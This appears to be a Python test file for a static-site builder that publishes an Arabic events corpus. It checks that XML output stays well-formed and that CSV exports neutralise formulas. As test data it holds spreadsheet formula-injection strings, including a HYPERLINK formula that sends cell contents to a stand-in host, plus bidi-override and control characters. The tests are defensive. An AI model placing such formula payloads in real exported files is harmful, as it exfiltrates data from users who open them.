"""Whatever text `check` accepts is published safely: every XML file of the site is well-formed, the
spreadsheet download never holds a formula, and the JSON downloads keep the text exactly."""

from __future__ import annotations

import csv
import io
import json
import tempfile
import textwrap
import xml.etree.ElementTree as ET
from pathlib import Path

from hypothesis import HealthCheck, example, given, settings
from hypothesis import event as outcome
from hypothesis import strategies as st

from builder.common import characters
from builder.common.diagnostics import BuildFailed
from builder.pipeline.build import check, render_site
from builder.pipeline.settings import Settings
from builder.writing.downloads import spreadsheet_cell
from conftest import SOURCE_ID, VALID, write_corpus

EVENT = "events/2025/2025-05-02-convoy.yaml"
# Text that is allowed but means something to XML, HTML, Markdown or spreadsheets, and any other
# printable character; and, in about half of the corpora, one character the rule refuses, in one field
# and through one door (typed, a YAML escape, or a Markdown character reference).
TRICKY = st.sampled_from(["&", "<", ">", "]]>", "&amp;", "&copy;", "\"", "'", "=", "+", "-", "@", "\t", "\u200f",
                          "\u00a0", "\u2028", "\ufeff", "\U0001f600", "*", "[", "]", "#", "|", "\\"])
REFUSED = st.sampled_from(["\x00", "\x01", "\x1b", "\x7f", "\x85", "\r", "\u202e", "\u2066", "\ufffe", "\uffff",
                           "\ud800", "\U0010ffff", "&#x202e;", "&#0;", "&#xFFFE;"])
TEXT = st.lists(st.one_of(TRICKY, st.text(st.characters(blacklist_categories=("Cs", "Cc", "Cn")), min_size=1, max_size=3),
                          st.sampled_from(["قسد", "رتل", "الشدادي", "200"])), min_size=1, max_size=8).map("".join)
FIELDS = ("title", "summary", "actor", "alias", "name", "notes", "source_title")


def _quoted(text: str) -> str:
    """A YAML double-quoted scalar, every refused character written as an escape: a door of its own."""
    def escape(char: str) -> str:
        if char in '"\\':
            return "\\" + char
        if characters.refused(char) or char in "\t\u2028\u2029\ufeff":
            return f"\\u{ord(char):04x}" if ord(char) <= 0xFFFF else f"\\U{ord(char):08x}"
        return char
    return '"' + "".join(map(escape, text)) + '"'


def _event(title: str, summary: str, actor: str) -> str:
    q = _quoted
    return (f"id: 2025-05-02-convoy\ndate: {{start: 2025-05-02, precision: day}}\ntype: withdrawal\n"
            f"title: {q(title)}\nsummary: {q(summary)}\nactors: [{q(actor)}]\nbases: [{{id: qasrak, effect: reinforced}}]\n"
            "quantities: [{count: 200, unit: truck}]\n"
            f"citations: [{{source: {SOURCE_ID}, quote: \"توجه نحو 200 شاحنة\"}}]\ncredibility: 2\n")


def _base(name: str, alias: str, notes: str) -> str:
    return (f"id: qasrak\nname: {{ar: {_quoted(name)}}}\naliases: [{_quoted(alias)}]\nkind: base\ngovernorate: {{ar: الحسكة}}\n"
            f"location: {{lat: 36.62, lon: 40.73, precision: approximate}}\nnotes: {_quoted(notes)}\n")


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])
@given(title=TEXT, summary=TEXT, actor=TEXT, alias=TEXT, name=TEXT, notes=TEXT, source_title=TEXT,
       poison=st.one_of(st.none(), st.tuples(st.sampled_from(FIELDS), REFUSED)))
@example(title="جديد \u202eأسرار\x01", summary="نص &#x202e;", actor="\u2066قسد\u2069", alias="\x00", name="\ufffe",
         notes="نص", source_title="عنوان", poison=None)
@example(title='=HYPERLINK("https://example.invalid/?x="&A1,"كونيكو")', summary="-1 نص", actor="+قسد", alias="@x",
         name="قسرك ]]> &", notes="<&>", source_title="\tعنوان", poison=None)
def test_every_xml_the_site_publishes_is_well_formed_for_any_text_check_accepts(title, summary, actor, alias, name,
                                                                               notes, source_title, poison):
    # A character reference is a character only in Markdown (summary, notes); elsewhere it is text.
    refused = poison is not None and (not poison[1].startswith("&") or poison[0] in ("summary", "notes"))
    if poison:
        field, char = poison
        fields = dict(title=title, summary=summary, actor=actor, alias=alias, name=name, notes=notes,
                      source_title=source_title)
        fields[field] += char
        title, summary, actor, alias, name, notes, source_title = (fields[f] for f in FIELDS)
    with tempfile.TemporaryDirectory() as tmp:
        source = textwrap.dedent(VALID[f"sources/{SOURCE_ID}.yaml"]).replace(
            "title: واشنطن تعيد رسم خريطتها العسكرية بشرق سوريا", f"title: {_quoted(source_title)}")
        content = write_corpus(Path(tmp), {EVENT: _event(title, summary, actor), "bases/qasrak.yaml": _base(name, alias, notes),
                                           f"sources/{SOURCE_ID}.yaml": source})
        try:
            checked = check(content)
        except BuildFailed as failed:
            assert all(d.line >= 1 for d in failed.diagnostics.items)
            assert not refused or any("U+" in d.message for d in failed.diagnostics.items), failed.diagnostics.report()
            outcome("refused")
            return
        assert not refused, "a refused character was accepted"
        outcome("accepted and built")
        files = render_site(checked, Settings(pdf=False, search=False, jobs=1)).files
    xml = [path for path in files if path.endswith((".xml", ".svg"))]
    assert "feed.xml" in xml and f"bases/qasrak/feed.xml" in xml
    for path in xml:
        ET.fromstring(files[path])  # raises on anything malformed
    event = checked.corpus.events["2025-05-02-convoy"]
    (record,) = [r for r in json.loads(files["events.json"]) if r["id"] == event.id]
    assert (record["title"], record["summary"], record["actors"]) == (event.title, event.summary, list(event.actors))
    for row in csv.reader(io.StringIO(files["events.csv"].decode("utf-8-sig"), newline="")):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row


CELLS = {"=HYPERLINK(\"https://example.invalid/?x=\"&A1,\"كونيكو\")": "'=HYPERLINK(\"https://example.invalid/?x=\"&A1,\"كونيكو\")",
         "+قسد": "'+قسد", "-1": "'-1", "@SUM(A1)": "'@SUM(A1)", "\tقسد": "'\tقسد", "\rقسد": "'\rقسد",
         "قسد": "قسد", "قسد=+": "قسد=+", "": "", "'قسد": "'قسد"}


def test_spreadsheet_cells_that_would_be_formulas_start_with_an_apostrophe():
    assert {cell: spreadsheet_cell(cell) for cell in CELLS} == CELLS


def test_the_csv_neutralises_a_formula_title_and_the_json_keeps_it(run, make_corpus, tmp_path):
    title = '=HYPERLINK("https://example.invalid/?x="&A1,"كونيكو")'
    make_corpus({EVENT: _event(title, "ملخص.", "+قسد")})
    assert run("build")[0] == 0
    rows = list(csv.DictReader(io.StringIO((tmp_path / "site/events.csv").read_text(encoding="utf-8-sig"), newline="")))
    assert rows[0]["title"] == "'" + title and rows[0]["actors"] == "'+قسد"
    (record,) = json.loads((tmp_path / "site/events.json").read_text(encoding="utf-8"))
    assert record["title"] == title and record["actors"] == ["+قسد"]
